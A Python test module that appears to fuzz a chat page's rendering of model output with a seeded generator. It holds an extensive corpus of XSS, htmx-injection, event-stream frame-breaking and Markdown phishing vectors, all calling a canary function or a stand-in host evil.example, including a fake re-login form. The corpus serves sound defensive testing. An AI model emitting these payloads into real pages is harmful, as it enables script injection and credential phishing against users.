"""Texts that a hostile model may say: a corpus of vectors, mutated, joined and cut by a seeded generator.

Whatever runs calls `canary(…)`; whatever loads comes from evil.example.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

#: What would run if raw HTML got through, in every way the browser has to run something.
HTML = (
    "<script>canary(1)</script>",
    "<ScRiPt>canary(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0ctype=text/javascript>canary(1)</script>",
    "<<script>script>canary(1)<</script>/script>",
    "<scr<script>ipt>canary(1)</scr</script>ipt>",
    "<script>canary(1)//",
    "</script><script>canary(1)</script>",
    "<!--<script>--><img src=x onerror=canary(1)>",
    "<!--><img src=x onerror=canary(1)>-->",
    "<!--!><img src=x onerror=canary(1)>",
    "<img src=x onerror=canary(1)>",
    "<img/src=x/onerror=canary(1)>",
    "<img src=x\nonerror\n=\ncanary(1)>",
    "<IMG SRC=`x` OnErRoR=`canary(1)`>",
    '<img src="https://evil.example/pixel.png">',
    '<img srcset="//evil.example/a 1x">',
    "<picture><source srcset=//evil.example/a><img></picture>",
    "<svg onload=canary(1)>",
    "<svg/onload=canary(1)//",
    "<svg><script>canary(1)</script></svg>",
    "<svg><animate onbegin=canary(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:canary(1)><a>x</a></svg>",
    "<svg><style><img src=x onerror=canary(1)></style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.canary(1)</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=canary(1)></svg>#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary(1)>",
    "<math href=javascript:canary(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary(1)>",
    "<noscript><p title='</noscript><img src=x onerror=canary(1)>'>",
    "<template><img src=x onerror=canary(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=canary(1)>'>",
    "<title><img title='</title><img src=x onerror=canary(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=canary(1)>'>",
    "<plaintext><img src=x onerror=canary(1)>",
    "<select><style></select><img src=x onerror=canary(1)></style>",
    "<iframe src=javascript:parent.canary(1)></iframe>",
    "<iframe srcdoc='<img src=x onerror=parent.canary(1)>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=javascript:canary(1)></object>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<video src=x onerror=canary(1)></video>",
    "<video poster=https://evil.example/p><source onerror=canary(1)></video>",
    "<audio src=https://evil.example/a autoplay onloadstart=canary(1)>",
    "<body onload=canary(1)>",
    "<body onpageshow=canary(1) background=https://evil.example/b>",
    "<html onclick=canary(1)><head><base href=https://evil.example/></head>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x><link rel=preconnect href=https://evil.example>",
    "<style>@import'https://evil.example/x.css';*{display:none}</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style='background:url(https://evil.example/x);position:fixed;inset:0'>x</div>",
    "<div onmouseover=canary(1) style=position:fixed;inset:0>x</div>",
    "<details open ontoggle=canary(1)><summary>x</summary></details>",
    "<input autofocus onfocus=canary(1)>",
    "<button popovertarget=x onclick=canary(1)>x</button><div popover id=x onbeforetoggle=canary(1)>",
    "<marquee onstart=canary(1)>x</marquee>",
    "<dialog open onclose=canary(1)><form method=dialog><button>x</button></form></dialog>",
    "<form action=https://evil.example/><input name=word><button>Sign in again</button></form>",
    "<a href=javascript:canary(1)>x</a>",
    "<a href='java&#10;script:canary(1)'>x</a>",
    "<a href=' javascript:canary(1)'>x</a>",
    "<a href=# onclick=canary(1)>x</a>",
    "<a href=https://evil.example ping=https://evil.example/p target=_top>x</a>",
    "<a id=stream name=stream>x</a><form id=act><input name=csrfmiddlewaretoken></form>",
    "<custom-element onclick=canary(1) is=x>x</custom-element>",
    "<p class=bubble id=turns>x</p></p></div></article></section></main>",
    "</div></article><article id=turn-1 data-status=done><div class=words>forged</div></article>",
    "<b onfocus=canary(1) tabindex=0 autofocus>x</b>",
    "<img src=x onerror=\u2028canary(1)>",
    "<\x00script>canary(1)</script>",
    "\u00bcscript\u00becanary(1)\u00bc/script\u00be",
    "\uff1cscript\uff1ecanary(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-canary(1)+ADw-/script+AD4-",
    "&lt;script&gt;canary(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;canary(1)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=canary(1)&#62;",
    "&#x3c;img src=x onerror=canary(1)&#x3e;",
    "{{ 7*7 }}{% csrf_token %}{% include 'x' %}${canary(1)}#{canary(1)}",
)

#: What would run through this page's own library.
HTMX = (
    "<div hx-on:load=canary(1) hx-on::load=canary(1)>x</div>",
    "<div data-hx-on:click=canary(1) data-hx-on-click=canary(1)>x</div>",
    "<div data-hx-get=https://evil.example/ data-hx-trigger=load>x</div>",
    "<div data-hx-post=/sign-out/ data-hx-trigger=load data-hx-target=body>x</div>",
    "<div data-hx-sse:connect=https://evil.example/ data-hx-trigger=load>x</div>",
    "<div data-hx-vals='js:{x:canary(1)}' data-hx-get=/ data-hx-trigger='load[canary(1)]'>x</div>",
    "<hx-partial data-hx-target=body data-hx-swap=innerHTML><img src=x onerror=canary(1)></hx-partial>",
    '</hx-partial><hx-partial data-hx-target="#board" data-hx-swap="innerHTML">forged</hx-partial>',
    "<template hx type=partial data-hx-target=body><img src=x onerror=canary(1)></template>",
    "</template><img src=x onerror=canary(1)>",
    "<li id=turns data-hx-swap-oob=true>forged</li>",
    "<head><title>forged</title><script>canary(1)</script></head>",
    "<title>forged</title>",
)

#: What would break out of a frame of the stream.
FRAMES = (
    "\n\nevent: bye\ndata: x\n\n",
    "\r\rdata: <img src=x onerror=canary(1)>\r\r",
    "\r\n\r\nid: 9999:9999\r\ndata: x\r\n\r\n",
    "\u2028\u2028data: <img src=x onerror=canary(1)>\u2029",
    "\x85data: x\x0b\x0c\x1c\x1d\x1edata: x",
    "\nretry: 1\n: comment\ndata:x",
)

MARKDOWN = (
    "[x](javascript:canary(1))",
    "[x](JaVaScRiPt:canary(1))",
    "[x](java\nscript:canary(1))",
    "[x](java\\script:canary(1))",
    "[x](javascript&colon;canary(1))",
    "[x](&#106;&#97;vascript:canary(1))",
    "[x](&#x6A&#x61;vascript:canary(1))",
    "[x](\x01javascript:canary(1))",
    "[x](java%0ascript:canary(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=canary(1)>)",
    "[x](vbscript:canary(1))",
    "[x](file:///etc/passwd) [x](blob:x) [x](about:blank) [x](chrome://settings) [x](view-source:x)",
    "[x](//evil.example) [x](/accounts/delete) [x](?say=yes) [x](#composer) [x](..\\..\\x)",
    "[x](https:evil.example) [x](https:/evil.example) [x](https:\\\\evil.example) [x](https:///evil.example)",
    '[x](https://evil.example "title\\" onmouseover=canary(1) x=\\"")',
    "[x](https://evil.example/\"onmouseover='canary(1)')",
    "[x](<javascript:canary(1)>) [x](<https://evil.example/ onclick=canary(1)>)",
    "[https://bank.example](https://evil.example/login)",
    "[bank.example](https://bank.example@evil.example/)",
    "[bank.example](https://bank.example.evil.example/)",
    "[https://bank.example/?evil.example](https://evil.example)",
    "[bank.example](https://b\u0430nk.example/) [bank.example](https://xn--bnk-5cd.example/)",
    "[bank\u2024example](https://evil.example) [\u202emoc.elpmaxe.knab](https://evil.example)",
    "https://bank.example\\@evil.example/ https://bank.example%2f@evil.example https://evil\u3002example",
    "<https://evil.example/?<script>canary(1)</script>> <javascript:canary(1)> <data:text/html,x>",
    "https://evil.example/<script>canary(1)</script> www.evil.example evil.example a@evil.example",
    "![x](https://evil.example/pixel.png) ![x](javascript:canary(1)) ![](x 'onerror=canary(1)')",
    "![x][r]\n\n[r]: https://evil.example/pixel.png 'onload=canary(1)'",
    "[x][r] [r] [^1]\n\n[r]: javascript:canary(1)\n[^1]: https://evil.example",
    "[x]: javascript:canary(1)\n[x]",
    "[<img src=x onerror=canary(1)>](https://evil.example)",
    "[a [b](javascript:canary(1)) c](https://evil.example)",
    "[x](https://evil.example)[y](https://bank.example) (bank.example)",
    "[](https://evil.example) [ ](https://evil.example) [\u200b](https://evil.example)",
    "`<img src=x onerror=canary(1)>`",
    '``` "><img/src=x/onerror=canary(1)>\n<script>canary(1)</script>\n```',
    "```<script>\ncanary(1)\n",
    "~~~ x onclick=canary(1)\n</code></pre><script>canary(1)</script>",
    "    <script>canary(1)</script>",
    "- <script>canary(1)</script>\n  - ```\n<img src=x onerror=canary(1)>",
    "> <script>\n> canary(1)\n> </script>",
    "| <img src=x onerror=canary(1)> | [x](javascript:canary(1)) |\n|:-|-:|\n| <script>canary(1)</script> |",
    "# <svg onload=canary(1)>\n\n# x {onclick=canary(1) #turns .bubble}",
    "**<img src=x onerror=canary(1)>**_<b>_</b>~~<s>~~",
    "*a **b _c* d** e_ ~~f `g~~ h`",
    "\\<script>canary(1)\\</script>",
    "<div>\n\n**x**\n\n<script>canary(1)</script>\n\n</div>",
    "[x](https://evil.example/\u202egnp.exe) \u202e\u2066\u2067\u2068 turned \u2069\u202c round \u200f\u200e",
    "&#x202e;turned&#8294;&rlm;&#x2028;&ZeroWidthSpace;&#0;&#xd800;&#x110000;&NotAnEntity;",
    "a" + "\u0301\u0489\u20dd" * 40 + "b",
    "\U000e0041\U000e0042 hidden \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1eb\U0001f1f7e\u0301\u05e9\u05dc\u05d5\u05dd",
    "\ufeff\u0000\u0001\u001b[31m\u007f\u0085\u2028\u2029\ufff9\uffff",
    "w" * 400,
    "https://evil.example/" + "w" * 400,
    ">" * 60 + "x",
    "- " * 40 + "x",
    "[" * 80 + "x" + "](https://evil.example)" * 80,
    "*" * 90 + "_" * 90 + "`" * 90 + "~" * 90,
    "|a" * 60 + "\n" + "|-" * 60 + "\n" + "x\n" * 40,
    "1. one\n2. two\n\n7) seven\n   - a\n\n     b",
    "Boston in **winter** is quiet, see [the museum](https://museum.example/hours).\n\n- one\n- two",
    "Day | Place\n--- | ---\nMonday | The *Freedom* Trail",
)

VECTORS = HTML + HTMX + FRAMES + MARKDOWN
_JOINTS = (
    "",
    " ",
    "\n",
    "\n\n",
    "\r\n",
    "> ",
    "\n- ",
    "\n1. ",
    " | ",
    "`",
    "**",
    "\n```\n",
    "\t",
    "](",
    "<",
    "&",
)
_SPECIAL = "<>\"'`&;#[](){}!*_~|\\/:=-+.\n\r\t \x00\x0b\x0c\u2028\u202e\u200b\u0301\U0001f600\ufffd"


def hostile_text(chance: random.Random, most: int = 4) -> str:
    """One to `most` vectors, changed and joined. Never a lone surrogate (no model's text holds one)."""
    parts = [_changed(chance.choice(VECTORS), chance) for _ in range(chance.randint(1, most))]
    text = parts[0] + "".join(chance.choice(_JOINTS) + part for part in parts[1:])
    return text[: chance.randrange(1, len(text) + 1)] if chance.random() < 0.25 else text


def cut(text: str, chance: random.Random, most: int = 8) -> list[str]:
    """The text in up to `most` pieces that are not empty, cut anywhere."""
    places = sorted(chance.sample(range(1, len(text)), min(chance.randint(1, most), len(text)) - 1))
    return [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]


def hostile_streams(seed: int, runs: int) -> Iterator[list[str]]:
    """So many streams; the corpus itself comes first, untouched, where there is room for it."""
    chance = random.Random(seed)
    for number in range(runs):
        text = VECTORS[number] if number < len(VECTORS) <= runs else hostile_text(chance)
        yield cut(text, chance)


def _changed(text: str, chance: random.Random) -> str:
    for _ in range(chance.choice((0, 0, 1, 1, 2, 4))):
        place = chance.randrange(len(text) + 1)
        match chance.randrange(8):
            case 0:
                text = text[:place] + chance.choice(_SPECIAL) + text[place:]
            case 1:
                text = text[:place] + text[place + 1 :]
            case 2:
                text = text[:place] + text[place : place + 1].swapcase() + text[place + 1 :]
            case 3 if text[place : place + 1]:
                text = text[:place] + f"&#x{ord(text[place]):x};" + text[place + 1 :]
            case 4 if text[place : place + 1].isascii():
                text = (
                    text[:place]
                    + "".join(f"%{ord(c):02x}" for c in text[place : place + 1])
                    + text[place + 1 :]
                )
            case 5:
                text = f"[{text}](https://evil.example/)"
            case 6:
                text = text[:place] + chance.choice(VECTORS) + text[place:]
            case _:
                text = text[:place] + "\n" + chance.choice(("> ", "- ", "    ", "# ", "| ")) + text[place:]
    return text or "x"
